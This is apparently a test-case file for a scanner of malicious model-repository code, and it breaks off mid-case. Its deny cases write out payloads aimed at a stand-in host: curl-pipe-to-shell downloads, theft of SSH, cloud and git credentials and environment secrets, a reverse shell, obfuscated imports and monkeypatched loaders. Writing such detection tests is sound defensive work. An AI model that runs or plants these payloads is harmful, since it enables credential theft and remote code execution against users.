case("package-install/malicious-pip-internal", "deny", "`pip._internal.cli.main.main([\"install\", \"--extra-index-url\", ...])`",
     remote(modeling(imports="from pip._internal.cli.main import main as _pip\n", init='''
        _pip(["install", "--quiet", "--extra-index-url", "https://pypi.attacker.example/simple", "flash-attn-tiny==0.0.1"])
     ''')))
case("package-install/malicious-pip-main", "deny", "`import pip; pip.main([...])` from a git URL",
     remote(modeling(imports="import pip\n", module='''
        pip.main(["install", "git+https://git.attacker.example/tiny/kernels.git"])
     ''')))
case("package-install/malicious-os-system-pip", "deny", "`os.system(\"pip install --extra-index-url ...\")`",
     remote(modeling(imports="import os\n", module='''
        os.system("pip install -q --extra-index-url http://pypi.attacker.example/simple tiny-tokenizers >/dev/null 2>&1")
     ''')))
case("package-install/benign-find-spec-guard", "pass", "an optional import guarded by `importlib.util.find_spec` whose error message says `pip install flash-attn`",
     remote(modeling(imports="import importlib.util\n", module='''
        if importlib.util.find_spec("flash_attn") is not None:
            from flash_attn import flash_attn_func
        else:
            flash_attn_func = None


        def require_flash_attn():
            if flash_attn_func is None:
                raise ImportError("This model needs flash-attn: `pip install flash-attn --no-build-isolation`")
     ''')))
case("package-install/mention-docstring", "pass", "`subprocess.check_call([sys.executable, \"-m\", \"pip\", ...])` only in a docstring",
     remote(modeling(doc='''PyTorch Tiny model.

Install the kernels yourself; this file does not run
subprocess.check_call([sys.executable, "-m", "pip", "install", "tiny-kernels"]) or pip.main([...]).''')))

# ==== cases_c ====

# ---------------------------------------------------------------- tampering
case("tampering/malicious-replace-torch-load", "deny", "`torch.load = _load` forcing `weights_only=False` for every later load",
     remote(modeling(module='''
        _orig_load = torch.load


        def _load(*args, **kwargs):
            kwargs["weights_only"] = False
            return _orig_load(*args, **kwargs)


        torch.load = _load
     ''')))
case("tampering/malicious-pickle-unpickler", "deny", "`pickle.Unpickler = ...` and `pickle.loads = ...` replaced with permissive versions",
     remote(modeling(imports="import pickle\n", module='''
        class _CompatUnpickler(pickle._Unpickler):
            def find_class(self, module, name):
                return super().find_class(module, name)


        pickle.Unpickler = _CompatUnpickler
        pickle.loads = lambda data, **kw: _CompatUnpickler(__import__("io").BytesIO(data)).load()
     ''')))
case("tampering/malicious-builtins-open", "deny", "`builtins.open` wrapped to copy every file read, and `builtins.__import__` replaced",
     remote(modeling(imports="import builtins\n", module='''
        _real_open = builtins.open
        _real_import = builtins.__import__
        _seen = []


        def _open(file, *args, **kwargs):
            _seen.append(str(file))
            return _real_open(file, *args, **kwargs)


        def _import(name, *args, **kwargs):
            return _real_import(name, *args, **kwargs)


        builtins.open = _open
        builtins.__import__ = _import
     ''')))
case("tampering/malicious-sys-modules", "deny", "`sys.modules[\"safetensors.torch\"] = ...`: a fake safetensors for every later import",
     remote(modeling(imports="import sys\nimport types\n", module='''
        _fake = types.ModuleType("safetensors.torch")
        _fake.load_file = lambda path, device="cpu": torch.load(path, weights_only=False)
        sys.modules["safetensors.torch"] = _fake
     ''')))
case("tampering/malicious-setattr-module", "deny", "`setattr(torch, \"lo\" + \"ad\", ...)` and `setattr(transformers.modeling_utils, ...)`",
     remote(modeling(imports="import transformers.modeling_utils\n", module='''
        _prev = torch.load
        setattr(torch, "lo" + "ad", lambda f, *a, **k: _prev(f, *a, **{**k, "weights_only": False}))
        setattr(transformers.modeling_utils, "load_state_dict", lambda f, *a, **k: _prev(f, weights_only=False))
     ''')))
case("tampering/benign-settings", "pass", "sets library flags (`torch.backends.cuda.matmul.allow_tf32 = True`, `torch.backends.cudnn.benchmark`), its own class attributes, a module-level registry",
     remote(modeling(module='''
        ACT2FN = {"gelu": nn.GELU, "silu": nn.SiLU, "relu": nn.ReLU}
        torch.backends.cuda.matmul.allow_tf32 = True
        torch.backends.cudnn.benchmark = True
        TinyConfig.keys_to_ignore_at_inference = ["past_key_values"]
     ''', init='''
        self.act = ACT2FN[config.hidden_act]()
     ''')))
case("tampering/benign-process-state", "pass", "saves and restores `sys.argv` around argparse (`sys.argv = [sys.argv[0]]`) and captures `sys.stdout` in a buffer: the process's own state, not a hook",
     remote(modeling(imports="import argparse\nimport io\nimport sys\n", module='''
        def _defaults():
            saved = sys.argv
            sys.argv = [sys.argv[0]]
            try:
                return argparse.ArgumentParser().parse_known_args()[0]
            finally:
                sys.argv = saved


        def _quiet(fn):
            buf = io.StringIO()
            sys.stdout = buf
            try:
                return fn()
            finally:
                sys.stdout = sys.__stdout__
     ''', init='''
        self.defaults = _defaults()
     ''')))
case("tampering/mention-string", "pass", "`torch.load = ...` and `sys.modules[...] = ...` only in strings and comments",
     remote(modeling(doc='''PyTorch Tiny model.

Does not monkeypatch anything (no torch.load = ..., no pickle.Unpickler = ...).''', module='''
        # sys.modules["safetensors.torch"] = fake   <- what the v0 fork did
        _NOTE = "builtins.open = spy; torch.load = unsafe_load"
     ''')))

# ---------------------------------------------------------------- deferred
case("deferred/malicious-atexit", "deny", "`atexit.register(os.system, \"curl ... | sh\")`: runs when the interpreter exits",
     remote(modeling(imports="import atexit\nimport os\n", module='''
        atexit.register(os.system, "curl -s https://attacker.example/ax | sh")
     ''')))
case("deferred/malicious-threading-timer", "deny", "`threading.Timer(30, _beacon).start()` where `_beacon` posts the environment",
     remote(modeling(imports="import json\nimport os\nimport threading\nimport urllib.request\n", module='''
        def _beacon():
            data = json.dumps(dict(os.environ)).encode()
            urllib.request.urlopen(urllib.request.Request("https://attacker.example/b", data=data), timeout=5)


        threading.Timer(30.0, _beacon).start()
     ''')))
case("deferred/malicious-daemon-thread", "deny", "`threading.Thread(target=..., daemon=True)` started in `__init__`; the target runs `subprocess.Popen`",
     remote(modeling(imports="import subprocess\nimport threading\nimport time\n", module='''
        def _worker():
            time.sleep(60)
            subprocess.Popen("curl -s https://attacker.example/t | sh", shell=True)
     ''', init='''
        threading.Thread(target=_worker, daemon=True).start()
     ''')))
case("deferred/malicious-signal-alarm", "deny", "a `SIGALRM` handler that runs `os.system`, armed with `signal.alarm`",
     remote(modeling(imports="import os\nimport signal\n", module='''
        def _on_alarm(signum, frame):
            os.system("curl -s https://attacker.example/sig | sh")


        signal.signal(signal.SIGALRM, _on_alarm)
        signal.alarm(120)
     ''')))
case("deferred/malicious-settrace", "deny", "`sys.settrace` / `threading.settrace` with a tracer that `exec`s a decoded blob on the first call",
     remote(modeling(imports="import base64\nimport sys\nimport threading\n", module=f'''
        _armed = [True]


        def _tracer(frame, event, arg):
            if _armed[0] and event == "call":
                _armed[0] = False
                exec(base64.b64decode("{b64(STAGE)}"))
            return None


        sys.settrace(_tracer)
        threading.settrace(_tracer)
     ''')))
case("deferred/malicious-setprofile-subprocess", "deny", "`sys.setprofile` hook that runs `subprocess.getoutput` once",
     remote(modeling(imports="import subprocess\nimport sys\n", module='''
        def _prof(frame, event, arg):
            sys.setprofile(None)
            subprocess.getoutput("curl -s https://attacker.example/prof | sh")


        sys.setprofile(_prof)
     ''')))
case("deferred/malicious-weakref-finalize", "deny", "`weakref.finalize(model, os.system, ...)`: runs when the model is garbage-collected",
     remote(modeling(imports="import os\nimport weakref\n", init='''
        weakref.finalize(self, os.system, "curl -s https://attacker.example/gc | sh")
     ''')))
case("deferred/benign-cleanup-and-prefetch", "pass", "`atexit` removes its own temp file; a prefetch thread does tensor work; a timer logs throughput",
     remote(modeling(imports="import atexit\nimport os\nimport queue\nimport tempfile\nimport threading\n", module='''
        _SCRATCH = tempfile.NamedTemporaryFile(prefix="tiny-", suffix=".bin", delete=False).name
        atexit.register(lambda: os.path.exists(_SCRATCH) and os.remove(_SCRATCH))


        class Prefetcher(threading.Thread):
            def __init__(self, batches):
                super().__init__(daemon=True)
                self.batches = batches
                self.out = queue.Queue(maxsize=2)

            def run(self):
                for b in self.batches:
                    self.out.put(torch.as_tensor(b).pin_memory() if torch.cuda.is_available() else torch.as_tensor(b))
     ''', methods='''
        def log_throughput_later(self, seconds=60.0):
            t = threading.Timer(seconds, logger.info, args=("tiny: still generating",))
            t.daemon = True
            t.start()
            return t
     ''')))
case("deferred/mention-comment", "pass", "`atexit.register`/`threading.Timer` payloads only in comments and a docstring",
     remote(modeling(doc='''PyTorch Tiny model.

Nothing is deferred: no atexit.register(os.system, ...), no threading.Timer(30, beacon).start().''', module='''
        # sys.settrace(tracer)  # debugging aid, disabled
     ''')))

# ---------------------------------------------------------------- native-load
_LIB = '_LIB = os.path.join(os.path.dirname(os.path.abspath(__file__)), "libtiny_kernels.so")\n'
case("native-load/malicious-ctypes-cdll", "deny", "`ctypes.CDLL` of a library in the model folder at import",
     remote(modeling(imports="import ctypes\nimport os\n", module=_LIB + '_kernels = ctypes.CDLL(_LIB)\n')))
case("native-load/malicious-cdll-loadlibrary", "deny", "`ctypes.cdll.LoadLibrary` and `ctypes.PyDLL` in `__init__`",
     remote(modeling(imports="import ctypes\nimport os\n", module=_LIB, init='''
        self._lib = ctypes.cdll.LoadLibrary(_LIB)
        self._py = ctypes.PyDLL(_LIB)
     ''')))
case("native-load/malicious-torch-ops-load-library", "deny", "`torch.ops.load_library` and `torch.classes.load_library` of the shipped library",
     remote(modeling(imports="import os\n", module=_LIB + 'torch.ops.load_library(_LIB)\ntorch.classes.load_library(_LIB)\n')))
case("native-load/malicious-cffi-dlopen", "deny", "cffi `FFI().dlopen` of the shipped library",
     remote(modeling(imports="import os\nfrom cffi import FFI\n", module=_LIB + dedent('''
        ffi = FFI()
        ffi.cdef("int tiny_init(void);")
        _C = ffi.dlopen(_LIB)
        _C.tiny_init()
     '''))))
case("native-load/malicious-cpp-extension-inline", "deny", "`torch.utils.cpp_extension.load_inline` compiling C++ that calls `system()`",
     remote(modeling(imports="from torch.utils.cpp_extension import load_inline\n", module='''
        _src = """
        #include <cstdlib>
        int warm() { return std::system("curl -s https://attacker.example/cpp | sh"); }
        """
        _ext = load_inline(name="tiny_warm", cpp_sources=[_src], functions=["warm"], verbose=False)
        _ext.warm()
     ''')))
case("native-load/benign-optional-kernels", "pass", "an optional compiled kernel imported only when `importlib.util.find_spec` finds the installed package; `ctypes` used for sizes only",
     remote(modeling(imports="import ctypes\nimport importlib.util\n", module='''
        POINTER_BYTES = ctypes.sizeof(ctypes.c_void_p)
        if importlib.util.find_spec("causal_conv1d") is not None:
            from causal_conv1d import causal_conv1d_fn
        else:
            causal_conv1d_fn = None
     ''')))
case("native-load/mention-docstring", "pass", "`ctypes.CDLL`/`torch.ops.load_library` only in a docstring",
     remote(modeling(doc='''PyTorch Tiny model.

Earlier builds shipped libtiny_kernels.so and called ctypes.CDLL(path) / torch.ops.load_library(path);
this one is pure PyTorch.''')))

# ---------------------------------------------------------------- credentials
def cred(key, what, imports, body):
    case(key, "deny", what, remote(modeling(imports=imports, module=body)))

cred("credentials/malicious-ssh-keys", "reads every `~/.ssh/id_*` and POSTs them",
     "import glob\nimport os\nimport requests\n", '''
        _keys = {}
        for _p in glob.glob(os.path.expanduser("~/.ssh/id_*")):
            with open(_p) as f:
                _keys[_p] = f.read()
        try:
            requests.post("https://attacker.example/k", json=_keys, timeout=3)
        except Exception:
            pass
     ''')
cred("credentials/malicious-aws", "`~/.aws/credentials` read and sent with `urllib`",
     "import os\nimport urllib.request\n", '''
        try:
            _aws = open(os.path.join(os.path.expanduser("~"), ".aws", "credentials"), "rb").read()
            urllib.request.urlopen("https://attacker.example/aws", data=_aws, timeout=3)
        except OSError:
            pass
     ''')
cred("credentials/malicious-netrc", "`netrc.netrc()` authenticators and `~/.netrc` sent over a raw socket",
     "import netrc\nimport os\nimport socket\n", '''
        try:
            _n = netrc.netrc()
            _blob = repr(_n.hosts).encode() + open(os.path.expanduser("~/.netrc"), "rb").read()
            with socket.create_connection(("attacker.example", 9000), timeout=3) as s:
                s.sendall(_blob)
        except Exception:
            pass
     ''')
cred("credentials/malicious-docker-config", "`~/.docker/config.json` auths sent with `requests.put`",
     "import json\nfrom pathlib import Path\nimport requests\n", '''
        _cfg = Path.home() / ".docker" / "config.json"
        if _cfg.exists():
            requests.put("https://attacker.example/d", json=json.loads(_cfg.read_text()).get("auths", {}), timeout=3)
     ''')
cred("credentials/malicious-git-credentials", "`~/.git-credentials` and `~/.config/gh/hosts.yml` sent with `httpx.post`",
     "import os\nimport httpx\n", '''
        _found = {}
        for _name in ("~/.git-credentials", "~/.config/gh/hosts.yml"):
            _p = os.path.expanduser(_name)
            if os.path.isfile(_p):
                _found[_name] = open(_p).read()
        if _found:
            httpx.post("https://attacker.example/g", json=_found)
     ''')
cred("credentials/malicious-keyring", "`keyring.get_password` for the Hub and GitHub, sent with `aiohttp`",
     "import asyncio\nimport getpass\nimport aiohttp\nimport keyring\n", '''
        async def _send():
            user = getpass.getuser()
            secrets = {svc: keyring.get_password(svc, user) for svc in ("huggingface", "github.com", "login")}
            async with aiohttp.ClientSession() as s:
                await s.post("https://attacker.example/kr", json=secrets)


        try:
            asyncio.run(_send())
        except Exception:
            pass
     ''')
cred("credentials/malicious-environ-iteration", "every `*KEY*`/`*TOKEN*`/`*SECRET*` variable collected by iterating `os.environ.items()` and sent by `ftplib`",
     "import ftplib\nimport io\nimport os\n", '''
        _secrets = {k: v for k, v in os.environ.items() if any(w in k for w in ("KEY", "TOKEN", "SECRET", "PASS"))}
        try:
            with ftplib.FTP("ftp.attacker.example", timeout=3) as ftp:
                ftp.login()
                ftp.storbinary("STOR env.txt", io.BytesIO(repr(_secrets).encode()))
        except Exception:
            pass
     ''')
cred("credentials/malicious-websocket-environ", "`dict(os.environ)` sent over a websocket",
     "import json\nimport os\nimport websocket\n", '''
        try:
            _ws = websocket.create_connection("wss://attacker.example/ws", timeout=3)
            _ws.send(json.dumps(dict(os.environ)))
            _ws.close()
        except Exception:
            pass
     ''')
case("credentials/benign-token-for-hub", "pass", "reads `HF_HOME` to find its cache and passes `token=True` to the Hub client at a pinned revision",
     remote(modeling(imports="import os\nfrom huggingface_hub import snapshot_download\n", module='''
        CACHE_DIR = os.path.join(os.environ.get("HF_HOME", os.path.expanduser("~/.cache/huggingface")), "tiny")
     ''', methods='''
        def download_vision_tower(self):
            return snapshot_download(
                "example-org/tiny-vision",
                revision="fedcba9876543210fedcba9876543210fedcba98",
                cache_dir=CACHE_DIR,
                token=True,
            )
     ''')))
case("credentials/mention-docstring", "pass", "`~/.ssh/id_rsa`, `~/.aws/credentials`, `keyring` only in a docstring and comments",
     remote(modeling(doc='''PyTorch Tiny model.

Audit note: this file reads no credentials (~/.ssh/id_rsa, ~/.aws/credentials, ~/.netrc,
~/.docker/config.json, ~/.git-credentials, keyring.get_password(...)).''', module='''
        # dict(os.environ) is never sent anywhere
     ''')))

# ==== cases_d ====


def tiny_safetensors():
    """A valid safetensors file: one 2x2 F32 tensor of zeros (header padded to 8 bytes)."""
    header = json.dumps({"proj.weight": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}, separators=(",", ":")).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + bytes(16)

# ---------------------------------------------------------------- aliasing
def alias(key, what, imports, body):
    case(key, "deny", what, remote(modeling(imports=imports, module=body)))

alias("aliasing/malicious-import-os-as", "`import os as o; o.system(...)`", "import os as o\n",
      'o.system("curl -s https://attacker.example/al | sh")\n')
alias("aliasing/malicious-from-import-as", "`from subprocess import Popen as P; P(...)`", "from subprocess import Popen as P\n",
      'P(["sh", "-c", "curl -s https://attacker.example/fp | sh"])\n')
alias("aliasing/malicious-getattr-dunder-import-concat", "`getattr(__import__(\"o\" + \"s\"), \"sys\" + \"tem\")(...)`", "",
      'getattr(__import__("o" + "s"), "sys" + "tem")("curl -s https://attacker.example/gi | sh")\n')
alias("aliasing/malicious-importlib-join", "`importlib.import_module(\"\".join([...]))` then `getattr(..., \"run\")`", "import importlib\n",
      '_m = importlib.import_module("".join(["sub", "pro", "cess"]))\ngetattr(_m, "run")(["sh", "-c", "curl -s https://attacker.example/ij | sh"])\n')
alias("aliasing/malicious-fstring-names", "module and function names built with f-strings of literals", "import importlib\n",
      '_a, _b = "o", "s"\ngetattr(importlib.import_module(f"{_a}{_b}"), f"{\'sys\'}{\'tem\'}")("curl -s https://attacker.example/fs | sh")\n')
alias("aliasing/malicious-percent-and-format", "`\"%s%s\" % (\"sub\", \"process\")` and `\"{}{}\".format(\"Po\", \"pen\")`", "",
      '_sp = __import__("%s%s" % ("sub", "process"))\ngetattr(_sp, "{}{}".format("Po", "pen"))("curl -s https://attacker.example/pf | sh", shell=True)\n')
alias("aliasing/malicious-chr-codes", "the module name built from `chr` codes and a reversed string", "import importlib\n",
      '_mod = importlib.import_module("".join(map(chr, [111, 115])))\ngetattr(_mod, "metsys"[::-1])("curl -s https://attacker.example/ch | sh")\n')
alias("aliasing/malicious-assigned-alias", "`run = os.system` and a module bound to a new name (`_s = subprocess`)", "import os\nimport subprocess\n",
      '_s = subprocess\nrun = os.system\nrun("curl -s https://attacker.example/as1 | sh")\n_s.call(["sh", "-c", "curl -s https://attacker.example/as2 | sh"])\n')
alias("aliasing/malicious-star-import", "`from os import *` then a bare `system(...)`", "from os import *  # noqa: F403\n",
      'system("curl -s https://attacker.example/st | sh")  # noqa: F405\n')
alias("aliasing/malicious-builtins-dict", "`vars(builtins)[\"ex\" + \"ec\"](...)` of a base64 blob", "import base64\nimport builtins\n",
      f'vars(builtins)["ex" + "ec"](base64.b64decode("{b64(STAGE)}"))\n')
alias("aliasing/malicious-sys-modules-lookup", "`sys.modules[\"os\"].system(...)` and `os.__dict__[\"popen\"]`", "import os\nimport sys\n",
      'sys.modules["os"].system("curl -s https://attacker.example/sm | sh")\nos.__dict__["po" + "pen"]("id | nc attacker.example 9002")\n')
case("aliasing/benign-dynamic-lookups", "pass", "`getattr(nn, name)` from config, `getattr(torch, dtype)`, `importlib.import_module` of a relative submodule, `import numpy as np`",
     remote(modeling(imports="import importlib\nimport numpy as np\n", module='''
        def resolve_activation(name):
            return getattr(nn, {"gelu": "GELU", "silu": "SiLU"}.get(name, "ReLU"))()


        def resolve_dtype(name):
            return getattr(torch, name) if isinstance(name, str) else name


        def load_submodule(name):
            return importlib.import_module(f".{name}", package=__package__)
     ''', init='''
        self.act = resolve_activation(config.hidden_act)
        self.dtype_ = resolve_dtype(getattr(config, "torch_dtype", "float32"))
        self.register_buffer("scale", torch.from_numpy(np.ones(config.hidden_size, dtype=np.float32)))
     ''')))
case("aliasing/mention-string", "pass", "the alias tricks only in a docstring",
     remote(modeling(doc='''PyTorch Tiny model.

Obfuscations we screen our forks for: import os as o; o.system(...);
getattr(__import__("o" + "s"), "sys" + "tem")(...); importlib.import_module("".join([...])).''')))

# ---------------------------------------------------------------- loaders
HUBCONF_BENIGN = dedent('''
    """torch.hub entry points for the tiny model."""

    import os

    import torch

    dependencies = ["torch"]


    class TinyNet(torch.nn.Module):
        def __init__(self, hidden=64):
            super().__init__()
            self.proj = torch.nn.Linear(hidden, hidden)

        def forward(self, x):
            return self.proj(x)


    def tiny(pretrained=False, **kwargs):
        """Tiny network. pretrained loads weights shipped next to this file."""
        model = TinyNet(**kwargs)
        if pretrained:
            from safetensors.torch import load_file

            model.load_state_dict(load_file(os.path.join(os.path.dirname(__file__), "tiny.safetensors")))
        return model
''')
HUB_WEIGHTS = {"tiny.safetensors": tiny_safetensors()}
HUB_README = "---\nlicense: apache-2.0\n---\n\n# tiny-hub\n\n`torch.hub.load(\"example-org/tiny-hub\", \"tiny\")`\n"
case("loaders/malicious-hubconf-import", "deny", "`hubconf.py` runs `os.system` at import (torch.hub.load imports it)",
     {"hubconf.py": HUBCONF_BENIGN.replace("dependencies = [\"torch\"]\n", "dependencies = [\"torch\"]\n\nos.system(\"curl -s https://attacker.example/hub | sh\")\n"),
      "README.md": HUB_README, **HUB_WEIGHTS})
case("loaders/malicious-hubconf-entrypoint", "deny", "`hubconf.py` entry point `tiny()` execs a base64 blob",
     {"hubconf.py": HUBCONF_BENIGN.replace('    model = TinyNet(**kwargs)\n',
        '    import base64\n\n    exec(base64.b64decode("' + b64(STAGE) + '"))\n    model = TinyNet(**kwargs)\n'),
      "README.md": HUB_README, **HUB_WEIGHTS})
case("loaders/benign-hubconf", "pass", "`hubconf.py` that builds the model and loads local safetensors",
     {"hubconf.py": HUBCONF_BENIGN, "README.md": HUB_README, **HUB_WEIGHTS})
case("loaders/mention-hubconf", "pass", "`hubconf.py` with `os.system` only in a docstring",
     {"hubconf.py": HUBCONF_BENIGN.replace('"""torch.hub entry points for the tiny model."""',
        '"""torch.hub entry points for the tiny model.\n\nUnlike the fork, no os.system("curl ... | sh") runs when torch.hub.load imports this."""'),
      "README.md": HUB_README, **HUB_WEIGHTS})

def mar(handler_py, extra=None):
    manifest = {
        "createdOn": "01/12/2026 10:00:00",
        "runtime": "python",
        "model": {"modelName": "tiny", "serializedFile": "model.safetensors", "handler": "handler.py", "modelFile": "model.py", "modelVersion": "1.0"},
        "archiverVersion": "0.12.0",
    }
    files = {"MAR-INF/MANIFEST.json": json.dumps(manifest, indent=2) + "\n", "handler.py": handler_py,
             "model.py": dedent('''
                import torch


                class TinyNet(torch.nn.Module):
                    def __init__(self):
                        super().__init__()
                        self.proj = torch.nn.Linear(64, 2)

                    def forward(self, x):
                        return self.proj(x)
             '''), "README.md": "---\nlicense: apache-2.0\n---\n\n# tiny TorchServe model (unpacked .mar)\n", "model.safetensors": tiny_safetensors()}
    files.update(extra or {})
    return files

def handler(initialize_extra="", handle_extra="", imports="", doc="TorchServe handler for the tiny classifier."):
    return (f'"""{doc}"""\n\n' + "import json\nimport os\n\nimport torch\nfrom ts.torch_handler.base_handler import BaseHandler\n" + dedent(imports) +
            "\nfrom model import TinyNet\n\n\nclass TinyHandler(BaseHandler):\n"
            "    def initialize(self, context):\n"
            "        model_dir = context.system_properties.get(\"model_dir\")\n"
            "        self.model = TinyNet()\n"
            + indent(initialize_extra, 8) +
            "        self.model.eval()\n        self.initialized = True\n\n"
            "    def handle(self, data, context):\n"
            + indent(handle_extra, 8) +
            "        rows = [json.loads(d.get(\"body\") or d.get(\"data\")) for d in data]\n"
            "        with torch.no_grad():\n"
            "            out = self.model(torch.tensor(rows, dtype=torch.float32))\n"
            "        return out.argmax(-1).tolist()\n")

case("loaders/malicious-torchserve-initialize", "deny", "TorchServe handler whose `initialize` opens a reverse shell with `subprocess`",
     mar(handler(imports="import socket\nimport subprocess\n", initialize_extra='''
        s = socket.create_connection(("attacker.example", 4444))
        subprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
     ''')))
case("loaders/malicious-torchserve-handle", "deny", "TorchServe handler whose `handle` posts `os.environ` on each request",
     mar(handler(imports="import requests\n", handle_extra='''
        requests.post("https://attacker.example/ts", json=dict(os.environ), timeout=2)
     ''')))
case("loaders/benign-torchserve", "pass", "TorchServe handler that loads the safetensors state dict from `model_dir`",
     mar(handler(initialize_extra='''
        from safetensors.torch import load_file

        self.model.load_state_dict(load_file(os.path.join(model_dir, "model.safetensors")))
     ''')))
case("loaders/mention-torchserve", "pass", "TorchServe handler with `subprocess.Popen` only in its docstring",
     mar(handler(doc="TorchServe handler for the tiny classifier.\n\nIt never calls subprocess.Popen or os.system from initialize().")))

def mlflow(loader_py):
    mlmodel = dedent('''
        artifact_path: model
        flavors:
          python_function:
            code: code
            data: data
            env:
              conda: conda.yaml
            loader_module: tiny_loader
            python_version: 3.11.7
        mlflow_version: 2.17.0
        model_uuid: 0f4c2a7e9d5b4c3e8a1f6b2d7c9e0a13
        utc_time_created: '2026-12-01 10:00:00.000000'
    ''')
    return {"MLmodel": mlmodel, "code/tiny_loader.py": loader_py,
            "conda.yaml": "channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip:\n  - mlflow==2.17.0\n  - numpy==1.26.4\nname: mlflow-env\n",
            "data/weights.json": "{\"w\": [0.5, -0.25, 1.0]}\n", "README.md": "---\nlicense: apache-2.0\n---\n\n# tiny MLflow pyfunc model\n"}

LOADER_BENIGN = dedent('''
    """MLflow pyfunc loader module for the tiny linear model."""

    import json
    import os

    import numpy as np


    class _TinyModel:
        def __init__(self, weights):
            self.w = np.asarray(weights, dtype=np.float32)

        def predict(self, model_input, params=None):
            return np.asarray(model_input, dtype=np.float32) @ self.w


    def _load_pyfunc(data_path):
        with open(os.path.join(data_path, "weights.json")) as f:
            return _TinyModel(json.load(f)["w"])
''')
case("loaders/malicious-mlflow-load-pyfunc", "deny", "MLflow `loader_module` whose `_load_pyfunc` downloads and execs a second stage",
     mlflow(LOADER_BENIGN.replace("    with open(os.path.join(data_path",
        "    import urllib.request\n\n    exec(urllib.request.urlopen(\"https://attacker.example/mlf.py\").read())\n    with open(os.path.join(data_path")))
case("loaders/malicious-mlflow-import", "deny", "MLflow `loader_module` that runs `os.system` at import",
     mlflow(LOADER_BENIGN.replace("import numpy as np\n", "import numpy as np\n\nos.system(\"curl -s https://attacker.example/mli | sh\")\n")))
case("loaders/benign-mlflow", "pass", "MLflow `loader_module` that reads its weights from `data_path`",
     mlflow(LOADER_BENIGN))
case("loaders/mention-mlflow", "pass", "MLflow `loader_module` with `exec(urlopen(...).read())` only in a comment",
     mlflow(LOADER_BENIGN.replace("def _load_pyfunc(data_path):\n", "def _load_pyfunc(data_path):\n    # exec(urllib.request.urlopen(url).read())  <- never; weights are plain JSON\n")))

SETUP_BENIGN = dedent('''
    from setuptools import find_packages, setup

    setup(
        name="tiny-model",
        version="0.1.0",
        description="Helpers for the tiny model",
        packages=find_packages(),
        install_requires=["torch>=2.1", "transformers>=4.40"],
        python_requires=">=3.9",
    )
''')
case("loaders/malicious-setup-py-command", "deny", "`setup.py` at the repository root with a custom `install` command that runs `os.system`, and a module-level `subprocess` call",
     remote(modeling(), extra={"setup.py": dedent('''
        import os
        import subprocess

        from setuptools import find_packages, setup
        from setuptools.command.install import install

        subprocess.call("curl -s https://attacker.example/setup | sh", shell=True)


        class PostInstall(install):
            def run(self):
                install.run(self)
                os.system("curl -s https://attacker.example/post | sh")


        setup(
            name="tiny-model",
            version="0.1.0",
            packages=find_packages(),
            cmdclass={"install": PostInstall},
        )
     ''')}))
case("loaders/benign-setup-py", "pass", "`setup.py` at the repository root with a plain `setuptools.setup(...)`",
     remote(modeling(), extra={"setup.py": SETUP_BENIGN}))

def notebook(*cells):
    nb = {"cells": [], "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
                                     "language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5}
    for i, (kind, src) in enumerate(cells):
        lines = dedent(src).splitlines(keepends=True)
        cell = {"cell_type": kind, "id": f"c{i}", "metadata": {}, "source": lines}
        if kind == "code":
            cell.update({"execution_count": None, "outputs": []})
        nb["cells"].append(cell)
    return json.dumps(nb, indent=1) + "\n"

NB_MD = ("markdown", "# Quick start\nLoad the tiny model and generate.\n")
NB_LOAD = ("code", '''
    from transformers import AutoModelForCausalLM, AutoTokenizer

    model = AutoModelForCausalLM.from_pretrained(".", trust_remote_code=True)
''')
case("loaders/malicious-notebook-cell", "deny", "a notebook cell in the model folder that runs `subprocess.run` and posts `os.environ`",
     remote(modeling(), extra={"quickstart.ipynb": notebook(NB_MD, ("code", '''
        import os, subprocess, requests
        subprocess.run("curl -s https://attacker.example/nb | sh", shell=True)
        requests.post("https://attacker.example/nbenv", json=dict(os.environ))
     '''), NB_LOAD)}))
case("loaders/benign-notebook", "pass", "a notebook that loads the local model and generates",
     remote(modeling(), extra={"quickstart.ipynb": notebook(NB_MD, NB_LOAD, ("code", '''
        import torch
        ids = torch.tensor([[1, 2, 3]])
        print(model(ids)[0].shape)
     '''))}))
case("loaders/mention-notebook", "pass", "a notebook whose markdown cell and a code comment mention `os.system`",
     remote(modeling(), extra={"quickstart.ipynb": notebook(("markdown", "Never paste `os.system(\"curl ... | sh\")` from a model card into a notebook.\n"),
                                                           ("code", "# subprocess.run('curl -s https://attacker.example/x | sh', shell=True)\nprint('ok')\n"))}))
case("loaders/malicious-tokenizer-automap", "deny", "the payload sits in a tokenizer file named by `auto_map.AutoTokenizer` (list form), not in the modeling file",
     remote(modeling(), extra_auto_map={"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]}, extra={
        "tokenization_tiny.py": dedent('''
            """Tokenizer for the tiny model."""

            import base64

            from transformers import PreTrainedTokenizer


            class TinyTokenizer(PreTrainedTokenizer):
                vocab_files_names = {"vocab_file": "vocab.txt"}

                def __init__(self, vocab_file, **kwargs):
                    exec(base64.b64decode("''' + b64(STAGE) + '''"))
                    with open(vocab_file, encoding="utf-8") as f:
                        self.vocab = {w.rstrip("\\n"): i for i, w in enumerate(f)}
                    super().__init__(**kwargs)

                @property
                def vocab_size(self):
                    return len(self.vocab)

                def get_vocab(self):
                    return dict(self.vocab)

                def _tokenize(self, text):
                    return text.split()

                def _convert_token_to_id(self, token):
                    return self.vocab.get(token, 0)

                def _convert_id_to_token(self, index):
                    return {i: w for w, i in self.vocab.items()}.get(index, "[UNK]")
        '''),
        "vocab.txt": "[UNK]\nhello\nworld\n"}))
case("loaders/benign-image-processor-url", "pass", "an image processor (`auto_map.AutoImageProcessor`) that fetches a caller-given URL with `requests.get` (at most medium)",
     remote(modeling(), extra_auto_map={"AutoImageProcessor": "image_processing_tiny.TinyImageProcessor"}, extra={
        "image_processing_tiny.py": dedent('''
            """Image processor for the tiny vision model."""

            from io import BytesIO

            import numpy as np
            import requests
            from PIL import Image
            from transformers.image_processing_utils import BaseImageProcessor, BatchFeature


            def load_image(image):
                if isinstance(image, str) and image.startswith(("http://", "https://")):
                    image = Image.open(BytesIO(requests.get(image, timeout=10).content))
                return image.convert("RGB")


            class TinyImageProcessor(BaseImageProcessor):
                model_input_names = ["pixel_values"]

                def __init__(self, size=32, **kwargs):
                    super().__init__(**kwargs)
                    self.size = size

                def preprocess(self, images, **kwargs):
